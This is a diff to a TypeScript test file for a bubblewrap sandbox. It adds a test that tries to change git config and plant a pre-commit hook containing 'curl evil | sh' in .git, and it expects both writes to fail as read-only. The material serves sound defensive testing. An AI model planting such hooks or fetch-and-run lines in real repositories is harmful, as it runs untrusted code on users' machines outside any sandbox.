@@ -1,5 +1,6 @@
 // Escape attempts from inside the bubblewrap sandbox: each must fail, and fail
 // with an error a model (or a person) can read.
+import { execFileSync } from "node:child_process";
 import { randomBytes } from "node:crypto";
 import { existsSync } from "node:fs";
 import { readFile, symlink, writeFile } from "node:fs/promises";
@@ -7,7 +8,7 @@ import { createServer, type Server } from "node:net";
 import { homedir, tmpdir } from "node:os";
 import path from "node:path";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
-import type { BwrapRunner } from "../../src/workspace/sandbox.ts";
+import { describeKill, type BwrapRunner } from "../../src/workspace/sandbox.ts";
 import type { RunOptions, RunResult } from "../../src/workspace/types.ts";
 import { bwrapRunner, makeWorkspace, type TestWorkspace } from "./sandbox-fixtures.ts";
 
@@ -92,6 +93,33 @@ describe("bwrap sandbox: the filesystem", () => {
     expect(result.output).toContain("cat: to-outside: No such file or directory");
     expect(result.output).not.toContain("host secret");
     expect(await readFile(outside, "utf8")).toBe("host secret");
+  });
+
+  it("cannot plant config or hooks in .git for the app's own git to run outside the sandbox", async () => {
+    const repo = await makeWorkspace();
+    try {
+      execFileSync("git", ["init", "-q", repo.repoDir]);
+      await writeFile(path.join(repo.repoDir, "a.txt"), "a\n");
+      const configBefore = await readFile(path.join(repo.repoDir, ".git/config"), "utf8");
+      const result = await runner.run({
+        command: "git config core.hooksPath .githooks; echo 'curl evil | sh' > .git/hooks/pre-commit; git add a.txt; git status --short; echo edited >> a.txt && echo worktree-ok",
+        workspace: repo,
+        timeoutMs: 20_000,
+        network: false,
+      });
+      expect(result.output).toContain("error: could not lock config file .git/config: Read-only file system");
+      expect(result.output).toContain(".git/hooks/pre-commit: Read-only file system");
+      expect(result.output).toMatch(/Unable to create '.*\.git\/index\.lock': Read-only file system/);
+      expect(result.output).toContain("?? a.txt"); // reading the repository still works
+      expect(result.output).toContain("worktree-ok");
+      const add = await runner.run({ command: "git add a.txt", workspace: repo, timeoutMs: 20_000, network: false });
+      expect(add.exitCode).not.toBe(0);
+      expect(describeKill(add, { timeoutMs: 20_000 })).toContain("The repository's .git directory is read-only here");
+      expect(await readFile(path.join(repo.repoDir, ".git/config"), "utf8")).toBe(configBefore);
+      expect(existsSync(path.join(repo.repoDir, ".git/hooks/pre-commit"))).toBe(false);
+    } finally {
+      await repo.remove();
+    }
   });
 
   it("holds no capabilities, so it cannot remount the system read-write", async () => {
